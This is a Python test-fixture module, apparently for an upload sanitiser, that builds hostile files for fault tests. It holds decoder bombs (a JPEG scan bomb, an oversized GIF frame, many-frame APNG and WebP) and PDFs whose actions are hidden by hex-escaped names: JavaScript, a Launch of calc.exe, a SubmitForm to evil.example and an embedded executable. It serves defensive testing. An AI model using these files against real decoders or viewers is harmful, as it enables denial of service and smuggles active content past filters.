"""Hostile files, built small and deterministic: decoder bombs and PDFs with actions.

Each builder returns the bytes of a file that is valid (or valid enough for the decoder to spend
its time and memory on it) and cheap to send: the cost is in what its structure declares. Used by
the fault tests, the soak's hostile round and bench/hostile.py.
"""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

# -- JPEG -------------------------------------------------------------------------------------


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _stuffed(bits: str) -> bytes:
    """Entropy-coded bytes of a bit string: padded with ones, every 0xFF followed by a 0x00."""
    bits += "1" * (-len(bits) % 8)
    out = bytearray()
    for start in range(0, len(bits), 8):
        byte = int(bits[start : start + 8], 2)
        out.append(byte)
        if byte == 0xFF:
            out.append(0)
    return bytes(out)


def scan_bomb_jpeg(width: int = 8000, height: int = 8000, scans: int = 3000) -> bytes:
    """A greyscale progressive JPEG whose AC scans are a few bytes each (runs of end-of-band), yet
    each one makes the decoder walk every block of the image: about 0.3 MB at the defaults."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = bytearray(b"\xff\xd8")
    out += _segment(0xDB, b"\x00" + b"\x01" * 64)  # one quantisation table of ones
    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")  # SOF2: progressive
    # One Huffman code of one bit per table: DC difference 0, and AC "EOB14" (a run of 2^14+ blocks).
    out += _segment(0xC4, b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00")
    out += _segment(0xC4, b"\x10" + b"\x01" + b"\x00" * 15 + b"\xe0")
    out += _segment(0xDA, b"\x01\x01\x00\x00\x00\x00")  # the DC scan: one bit per block
    out += b"\x00" * ((blocks + 7) // 8)
    runs, left = [], blocks
    while left:
        run = min(left, 32767)
        runs.append("0" + format(run - 16384, "014b"))
        left -= run
    ac_data = _stuffed("".join(runs))
    for scan in range(scans):
        band = 1 + scan % 63
        out += _segment(0xDA, bytes([1, 1, 0x00, band, band, 0x00]))
        out += ac_data
    return bytes(out + b"\xff\xd9")


def progressive_photo(size: tuple[int, int] = (640, 480)) -> bytes:
    """An ordinary progressive JPEG (Pillow's, about ten scans): must be accepted."""
    image = Image.radial_gradient("L").resize(size).convert("RGB")
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", progressive=True, quality=85)
    return buffer.getvalue()


# -- GIF --------------------------------------------------------------------------------------

_GIF_FRAME_DATA = b"\x02\x02\x44\x01\x00"  # LZW code size 2, one sub-block (a 1x1 frame), end


def _gif_frame(left: int, top: int, width: int, height: int) -> bytes:
    control = b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: a delay of 10 ms
    return control + b"\x2c" + struct.pack("<HHHHB", left, top, width, height, 0) + _GIF_FRAME_DATA


def _gif(width: int, height: int, frames: bytes) -> bytes:
    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    return b"GIF89a" + screen + frames + b"\x3b"


def gif_frame_larger_than_screen(side: int = 30000) -> bytes:
    """A 1x1 screen, then a frame that declares side x side: Pillow grows its canvas to the frame."""
    return _gif(1, 1, _gif_frame(0, 0, 1, 1) + _gif_frame(0, 0, side, side))


def gif_with_frames(frames: int) -> bytes:
    """An animation of `frames` frames of 1x1 (23 bytes each)."""
    return _gif(1, 1, _gif_frame(0, 0, 1, 1) * frames)


# -- APNG -------------------------------------------------------------------------------------


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def apng_with_frames(frames: int) -> bytes:
    """An APNG of `frames` frames of 1x1 greyscale, alternating black and white."""
    pixels = [zlib.compress(b"\x00\x00"), zlib.compress(b"\x00\xff")]
    out = bytearray(b"\x89PNG\r\n\x1a\n")
    out += _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    out += _chunk(b"acTL", struct.pack(">II", frames, 0))
    sequence = 0
    for frame in range(frames):
        out += _chunk(b"fcTL", struct.pack(">IIIIIHHBB", sequence, 1, 1, 0, 0, 1, 100, 0, 0))
        sequence += 1
        if frame == 0:
            out += _chunk(b"IDAT", pixels[0])
        else:
            out += _chunk(b"fdAT", struct.pack(">I", sequence) + pixels[frame % 2])
            sequence += 1
    return bytes(out + _chunk(b"IEND", b""))


# -- WebP -------------------------------------------------------------------------------------


def webp_with_frames(frames: int) -> bytes:
    """An animated WebP of `frames` frames of 1x1, alternating red and black (Pillow's encoder)."""
    images = [Image.new("RGB", (1, 1), (255 * (i % 2), 0, 0)) for i in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, format="WEBP", save_all=True, append_images=images[1:], duration=10, lossless=True)
    return buffer.getvalue()


# -- PDF --------------------------------------------------------------------------------------


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects (numbered from 1; object 1 is the catalog), with a true xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + extra + b" >>"


def brochure() -> bytes:
    """An ordinary PDF: an outline, a link to a web page and a go-to action on opening."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
            _PAGES,
            _page(b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] "
                  b"/A << /S /URI /URI (https://example.com/) >> >>]"),
        ]
    )  # fmt: skip


SCRIPT = b"(app.alert\\(1\\))"

# name -> a PDF that carries something a brochure may not, where a check by name alone misses it.
HOSTILE_PDFS: dict[str, bytes] = {
    "page additional action, names in hex escapes": pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            _PAGES,
            _page(b"/AA << /O << /S /J#61vaScript /J#53 " + SCRIPT + b" >> >>"),
        ]
    ),
    "script chained after a harmless OpenAction through /Next": pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >> >>",
            _PAGES,
            _page(),
            b"<< /S /#4AavaScript /#4A#53 " + SCRIPT + b" >>",
        ]
    ),
    "Launch action on a link": pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            _PAGES,
            _page(b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /L#61unch /F (calc.exe) >> >>]"),
        ]
    ),
    "SubmitForm in a form field's additional action": pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
            _PAGES,
            _page(b"/Annots [4 0 R]"),
            b"<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 50 20] /P 3 0 R "
            b"/AA << /K << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >> >>",
        ]
    ),
    "ImportData on opening": pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /ImportData /F (data.fdf) >> >>", _PAGES, _page()]
    ),
    "embedded file": pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >> >>",
            _PAGES,
            _page(),
            b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ]
    ),
    "script in an outline item": pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
            _PAGES,
            _page(),
            b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            b"<< /Title (Go) /Parent 4 0 R /A << /S /J#61vaScript /J#53 " + SCRIPT + b" >> >>",
        ]
    ),
}
